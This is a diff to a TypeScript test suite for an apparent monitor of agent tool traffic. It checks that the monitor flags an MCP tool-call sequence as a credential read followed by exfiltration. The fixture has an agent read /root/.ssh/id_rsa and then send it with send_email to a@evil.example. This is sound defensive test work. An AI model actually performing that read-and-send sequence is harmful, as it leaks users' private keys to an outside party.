@@ -194,24 +194,30 @@ agentWatch('follows tools that read files and ask the web, in answers of any int
   ]);
 });
 
-agentWatch('follows the tools that are called at a server of the agent protocol', async () => {
-  const traffic = new InspectedTraffic();
-  for (const [name, args] of [
-    ['read_file', { path: '/root/.ssh/id_rsa' }],
-    ['send_email', { to: 'a@evil.example', body: 'hello' }],
-  ] as const) {
-    const body = JSON.stringify({
-      jsonrpc: '2.0',
-      id: 1,
-      method: 'tools/call',
-      params: { name, arguments: args },
-    });
-    await traffic.exchange(SERVER, { head: 'POST /mcp HTTP/1.1\nContent-Type: application/json', body });
-  }
-  assert.equal(sequences(traffic), [
-    'credential_read_then_sent medium: read /root/.ssh/id_rsa, then sent with send_email to a@evil.example',
-  ]);
-});
+for (const watches of [false, true]) {
+  const how = watches ? ', values being watched for' : '';
+  agentWatch(`follows the tools that are called at a server of the agent protocol${how}`, async () => {
+    const traffic = new InspectedTraffic();
+    if (watches)
+      traffic.watch([{ name: 'a.token', value: 'some-Value-123', home: { providers: [], hosts: [] } }]);
+    for (const [name, args] of [
+      ['read_file', { path: '/root/.ssh/id_rsa' }],
+      ['send_email', { to: 'a@evil.example', body: 'hello' }],
+    ] as const) {
+      const body = JSON.stringify({
+        jsonrpc: '2.0',
+        id: 1,
+        method: 'tools/call',
+        params: { name, arguments: args },
+      });
+      await traffic.exchange(SERVER, { head: 'POST /mcp HTTP/1.1\nContent-Type: application/json', body });
+    }
+    traffic.watch([]);
+    assert.equal(sequences(traffic), [
+      'credential_read_then_sent medium: read /root/.ssh/id_rsa, then sent with send_email to a@evil.example',
+    ]);
+  });
+}
 
 agentWatch('makes a credential that leaves after one was read a step worse', async () => {
   const key = `ghp_${Buffer.from('a token of no account at all x').toString('base64').slice(0, 36)}`;
